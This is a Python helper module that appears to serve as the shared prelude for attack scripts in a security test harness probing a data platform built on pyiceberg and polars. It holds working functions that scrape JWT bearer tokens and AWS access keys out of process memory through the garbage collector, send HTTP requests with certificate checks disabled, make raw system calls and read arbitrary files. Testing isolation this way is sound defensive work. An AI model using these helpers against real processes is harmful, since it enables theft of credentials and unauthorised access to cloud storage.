"""What every hostile script begins with; it is sent in front of each, so it uses nothing but the standard library.

A script reports how its attack went: `RefusedError` with the error that it received, or `BreachError` with what
worked. A script that ends without an error has not been stopped either.
"""

from __future__ import annotations

import ctypes
import gc
import os
import re
import ssl
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

_TOKEN = re.compile(r"^(?:Bearer )?(eyJ[\w-]+\.[\w-]+\.[\w-]+)$")
_LIBC = ctypes.CDLL(None, use_errno=True)


class RefusedError(Exception):
    """The attack was refused."""


class BreachError(Exception):
    """The attack worked."""


def attempt(**attempts: Callable[[], Any]) -> None:
    """Try each.

    Raises:
        BreachError: some worked; it says which.
        RefusedError: none did; states what each received.
    """
    refusals, worked = [], []
    for name, call in attempts.items():
        try:
            found = call()
        except Exception as error:
            refusals.append(f"{name}: {type(error).__name__}: {error}"[:700].replace("\n", " "))
        else:
            worked.append(f"{name}: {found!r}"[:300])
    if worked:
        raise BreachError("; ".join(worked))
    raise RefusedError("; ".join(refusals))


def http(
    url: str,
    method: str = "GET",
    *,
    token: str | None = None,
    body: bytes | None = None,
    headers: dict[str, str] | None = None,
) -> tuple[int, bytes]:
    """Send a request, trusting whatever answers; urllib raises an HTTPError for 400 and more."""
    sent = {"Content-Type": "application/json", **(headers or {})}
    if token:
        sent["Authorization"] = f"Bearer {token}"
    request = urllib.request.Request(url, data=body, headers=sent, method=method)  # noqa: S310 - http and https
    trusting = urllib.request.HTTPSHandler(context=ssl._create_unverified_context())  # noqa: S323
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}), trusting)
    with opener.open(request, timeout=8) as answer:
        return answer.status, answer.read(300)


def syscall(number: int, *arguments: Any) -> int:
    """Make a system call of x86-64.

    Raises:
        OSError: the kernel refused it.
    """
    answer: int = _LIBC.syscall(number, *arguments)
    if answer == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return answer


def stolen_tokens() -> list[str]:
    """Return every token that lies about in this process."""
    found = {match.group(1) for each in _strings() if (match := _TOKEN.match(each))}
    if not found:
        raise LookupError("there is no token in this process")
    return sorted(found)


def stolen_keys() -> dict[str, str]:
    """Return the storage options with the object store's keys that lie about in this process."""
    found: dict[str, str] = {}
    for mapping in _mappings():
        for key, value in mapping.items():
            if isinstance(key, str) and isinstance(value, str):
                name = re.sub(r"\W", "_", key.lower())
                for wanted in ("access_key_id", "secret_access_key"):
                    if name.endswith(wanted):
                        found[f"aws_{wanted}"] = value
    if len(found) < 2:
        raise LookupError("there are no keys in this process")
    return found


def storage_options(endpoint: str, **keys: str) -> dict[str, str]:
    """Return what polars wants to know of an S3 server."""
    return {
        "aws_endpoint_url": endpoint,
        "aws_region": "us-east-1",
        "aws_allow_http": "true",
        "aws_virtual_hosted_style_request": "false",
        **keys,
    }


def read(path: str) -> bytes:
    """Return the beginning of a file."""
    with Path(path).open("rb") as file:
        return file.read(300)


def _is_of_the_platform(each: object) -> bool:
    return str(type(each).__module__).startswith(("icefield", "pyiceberg", "polars"))


def _objects() -> Iterator[Any]:
    # Mappings of strings alone are not tracked themselves; what refers to them is.
    for each in gc.get_objects():
        yield each
        if _is_of_the_platform(each):
            yield from gc.get_referents(each)


def _strings() -> set[str]:
    return {each for each in _objects() if type(each) is str and "eyJ" in each[:12]}


def _mappings() -> Iterator[dict[Any, Any]]:
    for each in _objects():
        if type(each) is dict:
            yield dict(each)
        elif _is_of_the_platform(each):
            names = (*getattr(each, "__dict__", {}), *getattr(type(each), "__slots__", ()))
            yield {name: getattr(each, name, None) for name in names}
